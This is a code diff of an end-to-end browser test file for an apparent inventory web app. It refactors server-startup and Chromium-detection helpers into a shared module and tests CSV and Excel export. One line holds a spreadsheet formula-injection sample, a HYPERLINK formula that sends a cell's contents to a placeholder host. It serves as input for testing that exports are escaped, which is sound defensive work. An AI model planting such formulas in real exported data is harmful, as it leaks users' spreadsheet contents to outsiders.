@@ -2,13 +2,10 @@
 // pages: the type-ahead supplier filter, the export of the grid's current view to CSV and .xlsx,
 // periods in words, reason codes in words. The real `gst-ims serve` (built binary, port 0, a temp
 // demo workspace) driven by playwright-core through the system's Chromium.
-import type { ChildProcess } from 'node:child_process';
-import { spawn } from 'node:child_process';
 import { createRequire } from 'node:module';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { dirname, join, resolve } from 'node:path';
-import { fileURLToPath } from 'node:url';
+import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import type { BrowserContext, Page } from 'playwright-core';
@@ -23,25 +20,15 @@ import {
   plainRupees,
   viewCsv,
 } from '../../packages/web/src/view-table.js';
-import { CHROMIUM_ARGS, findChromium } from '../../scripts/find-chromium.mjs';
+import { CHROMIUM_ARGS } from '../../scripts/find-chromium.mjs';
+import { CHROMIUM, REQUIRED, SHOTS, WEB_DIST, startServe, warnIfNoChromium } from '../support/e2e.js';
 
-const REPO = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
-const BIN = join(REPO, 'packages/gst-ims/bin/gst-ims.js');
-const WEB_DIST = join(REPO, 'packages/web/dist/index.html');
-const SHOTS = join(REPO, 'test-output/screenshots');
+warnIfNoChromium('POLISH BROWSER TESTS');
+
 const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
 const AXE_SOURCE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
 const FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"click")';
 
-const CHROMIUM = findChromium();
-const REQUIRED = process.env.GST_IMS_REQUIRE_BROWSER === '1';
-if (CHROMIUM === null) {
-  const line = '!'.repeat(78);
-  console.warn(
-    `\n${line}\n!! POLISH BROWSER TESTS ${REQUIRED ? 'FAIL' : 'SKIPPED'}: no Chromium found.\n` +
-      `!! Install it (Debian/Ubuntu: apt-get install chromium) or set GST_IMS_CHROMIUM=/path/to/chrome.\n${line}\n`,
-  );
-}
 
 describe("the web's CSV cells follow the engine's formula rule", () => {
   const samples = [
@@ -86,35 +73,6 @@ describe("the web's CSV cells follow the engine's formula rule", () => {
   });
 });
 
-async function startServe(
-  cwd: string,
-  db: string,
-): Promise<{ child: ChildProcess; url: string; output: () => string }> {
-  const child = spawn(
-    process.execPath,
-    [BIN, '--db', db, '--user', 'asha', 'serve', '--port', '0', '--demo-if-empty'],
-    { cwd, env: { ...process.env, GST_IMS_DB: '' }, stdio: ['ignore', 'pipe', 'pipe'] },
-  );
-  let out = '';
-  child.stdout?.on('data', (d: Buffer) => (out += d.toString()));
-  child.stderr?.on('data', (d: Buffer) => (out += d.toString()));
-  const url = await new Promise<string>((ok, fail) => {
-    const timer = setTimeout(
-      () => fail(new Error(`gst-ims serve did not start in 60 s:\n${out}`)),
-      60_000,
-    );
-    const check = (): void => {
-      const m = /at (http:\/\/127\.0\.0\.1:\d+\/)/.exec(out);
-      if (m?.[1]) {
-        clearTimeout(timer);
-        ok(m[1]);
-      }
-    };
-    child.stdout?.on('data', check);
-    child.on('exit', (code) => fail(new Error(`gst-ims serve exited with ${code}:\n${out}`)));
-  });
-  return { child, url, output: () => out };
-}
 
 interface ApiRecord {
   key: string;
